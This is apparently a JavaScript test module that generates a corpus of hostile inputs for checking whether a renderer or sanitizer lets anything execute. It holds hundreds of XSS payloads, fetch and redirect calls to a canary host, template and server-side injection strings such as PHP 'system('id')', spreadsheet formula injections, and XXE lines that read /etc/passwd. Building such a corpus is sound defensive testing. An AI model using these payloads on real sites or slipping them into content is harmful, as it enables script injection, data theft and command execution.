// What attackers write, of every class: each would be noticed if a browser ran it, asked for it or obeyed it.
const canary = "https://canary.invalid";
// Acts that a page cannot hide from the check: a dialog, a request, a mark, a move to another page.
const acts = ["alert(1)", `fetch('${canary}/f')`, "globalThis.struck=1", `location='${canary}/l'`];
const each = (list, make) => list.flatMap((item, at) => make(item, acts[at % acts.length]));

const elements = [
  (act) => `<script>${act}</script>`, (act) => `<ScRiPt >${act}</sCrIpT>`, (act) => `<script\n>${act}</script\n>`, (act) => `<scr<script>ipt>${act}</scr</script>ipt>`,
  (act) => `"><script>${act}</script>`, (act) => `'><script>${act}</script>`, (act) => `</title><script>${act}</script>`, (act) => `</textarea><script>${act}</script>`,
  (act) => `</style><script>${act}</script>`, (act) => `--><script>${act}</script>`, (act) => `]]><script>${act}</script>`, (act) => `</code></pre><script>${act}</script>`,
  (act) => `</script><script>${act}</script>`, (act) => `<!--><script>${act}</script>`, (act) => `<svg><script>${act}</script></svg>`, (act) => `<math><mtext><script>${act}</script></mtext></math>`,
  (act) => `<noscript><p title="</noscript><script>${act}</script>">`, (act) => `<template><script>${act}</script></template>`, (act) => `＜script＞${act}＜/script＞`, (act) => `<script type=module>${act}</script>`,
];
const handlers = ["img src=x onerror", "svg onload", "body onload", "details open ontoggle", "input autofocus onfocus", "video src=x onerror", "audio src=x onerror", "marquee onstart", "iframe onload", "select autofocus onfocus",
  "a href=# onclick", "div onmouseover", "style onload", "object data=x onerror", "textarea autofocus onfocus", "svg><animate onbegin", "p contenteditable autofocus onfocus", "button popovertarget=x onclick", "embed src=x onload", "form onsubmit",
  "table background=x onanimationstart", "isindex type=image src=1 onerror", "math onwheel", "dialog open oncancel", "x onscrollend", "meter onmouseover", "xss tabindex=1 autofocus onfocus", "picture><source srcset=x><img onerror", "link rel=stylesheet href=x onerror", "track default src=x onload"];
const quotes = [(tag, act) => `<${tag}=${act}>`, (tag, act) => `<${tag}="${act}">`, (tag, act) => `"><${tag}='${act.replaceAll("'", "&#39;")}' x="`];
const loads = ["<img src=§>", "<img srcset='§ 2x'>", "<iframe src=§></iframe>", "<iframe srcdoc='<script src=§></script>'></iframe>", "<object data=§></object>", "<embed src=§>", "<link rel=stylesheet href=§>", "<link rel=prefetch href=§>",
  "<link rel=preconnect href=§>", "<link rel=dns-prefetch href=§>", "<link rel=icon href=§>", "<link rel=modulepreload href=§>", "<link rel=manifest href=§>", "<meta http-equiv=refresh content='0;url=§'>", "<base href=§>", "<form action=§><input type=submit autofocus></form>",
  "<video poster=§></video>", "<video src=§ autoplay></video>", "<audio src=§ autoplay></audio>", "<svg><image href=§ /></svg>", "<svg><use href='§#x'/></svg>", "<svg><feImage href=§ /></svg>", "<style>@import '§';</style>", "<style>*{background:url(§)}</style>",
  "<p style=\"background:url(§)\">", "<p style='list-style-image:url(§)'>", "<table background=§>", "<input type=image src=§>", "<script src=§></script>", "<frameset><frame src=§></frameset>", "<portal src=§>", "<applet code=§>",
  "<track src=§>", "<a ping=§ href=#>x</a>", "<meta name=referrer content=unsafe-url><img src=§>", "<script type=importmap>{\"imports\":{\"a\":\"§\"}}</script>", "![x](§)", "![x][r]\n\n[r]: §", "[![x](§)](§)", "<img src=\\\\canary.invalid\\x>", "<img src=//canary.invalid/x>"];
const schemes = ["javascript:@", "JaVaScRiPt:@", "java\tscript:@", "java\nscript:@", " javascript:@", "\u0001javascript:@", "javascript&colon;@", "&#106;avascript:@", "&#x6A;avascript:@", "javascript:/**/@", "javascript://%0a@",
  "vbscript:msgbox(1)", "data:text/html,<script>@</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=@>", "data:application/xhtml+xml,<x/>", "blob:https://canary.invalid/x", "filesystem:https://canary.invalid/x",
  "file:///etc/passwd", "view-source:javascript:@", "feed:javascript:@", "jar:https://canary.invalid!/x", "about:blank", "ms-msdt:/id x", "chrome://settings", "intent://x#Intent;end", "\u200bjavascript:@", "javascript\u00ad:@", "//canary.invalid/x", "\\\\canary.invalid\\x"];
const addressed = [(url) => `[x](<${url.replaceAll("\n", " ")}>)`, (url) => `<a href="${url}">x</a>`, (url) => `<${url}>`, (url) => `[x]\n\n[x]: ${url.replaceAll(/\s/g, "")}`];
const templates = ["{{ 7*7 }}", "{% include '/etc/passwd' %}", "{{ config }}", "{{ self }}", "{# x #}", "{% raw %}", "{{ x | safe }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('alert(1)')()}}", "[[${7*7}]]", "{{=<% %>=}}", "{%- set x = 1 -%}", "*{7*7}", "@{7*7}", "~{x}", "{{{x}}}", "<?php system('id') ?>", "<!--#exec cmd=\"id\"-->"];
const formulas = ["=1+1", "=HYPERLINK(\"https://canary.invalid\",\"x\")", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=IMPORTXML(\"https://canary.invalid\",\"//x\")", "=WEBSERVICE(\"https://canary.invalid\")", "%0A=1", "＝1+1"];
const unseen = ["\u202egnp.exe", "\u2066a\u2069", "a\u200bb", "\ufeffa", "\u2028alert(1)", "\u2029alert(1)", "\u0007bell", "\u001b[2J\u001b]0;x\u0007", "\u001b]8;;https://canary.invalid\u0007x\u001b]8;;\u0007", "\u0008\u0008", "\u007f", "a\u0085b", "e\u0301".repeat(40), "\u{e0041}\u{e0042}", "\u061c", "\u180e", "\ufff9a\ufffab\ufffb", "\u{1f468}\u200d\u{1f469}", "ａｌｅｒｔ", "İıſK"];
const scripts = ["</script><img src=x onerror=alert(1)>", "\\u003cscript\\u003ealert(1)//", "\";alert(1)//", "';alert(1)//", "`;alert(1)//`", "${alert(1)}", "\\\";alert(1)//", "<!--<script>", "__proto__", "constructor", "toString", "\\x3cimg src=x onerror=alert(1)\\x3e", "*/alert(1)/*", "}])});alert(1)//", "]]></x>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;", "%3Cscript%3Ealert(1)%3C/script%3E", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<<script>alert(1)//<</script>"];
const markdown = ["x".repeat(3000), "[".repeat(300), "*".repeat(300), "> ".repeat(80) + "x", "`".repeat(99), "[x](<y> \"z\" onclick=alert(1))", "[x](y \"\\\" onclick=alert(1) x=\\\"\")", "![\"onerror=alert(1) x=\"](x.png)", "~~~html onload=alert(1)\n<b>\n~~~", "```\"><script>alert(1)</script>\nx\n```", "[^\"><script>alert(1)</script>]: x", "# \" onmouseover=alert(1) x=\"", "<https://canary.invalid/\"onmouseover=alert(1)>", "https://canary.invalid/<script>alert(1)</script>", "mailto:a@b.c?subject=<script>", "| a |\n|---|\n| <img src=x onerror=alert(1)> |", "- [x] <svg onload=alert(1)>", "<!-- comment -->", "<?xml-stylesheet href=\"javascript:alert(1)\"?>", "<!DOCTYPE html [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>&x;"];

export const payloads = [
  ...each(elements, (make, act) => [make(act)]),
  ...each(handlers, (tag, act) => quotes.map((quote) => quote(tag, act))),
  ...loads.map((load) => load.replaceAll("§", `${canary}/x`)),
  ...each(schemes, (scheme, act) => addressed.slice(0, 3).map((make) => make(scheme.replace("@", act)))),
  ...schemes.map((scheme) => addressed[3](scheme.replace("@", "alert(1)"))),
  ...templates, ...formulas, ...unseen, ...scripts, ...markdown,
];
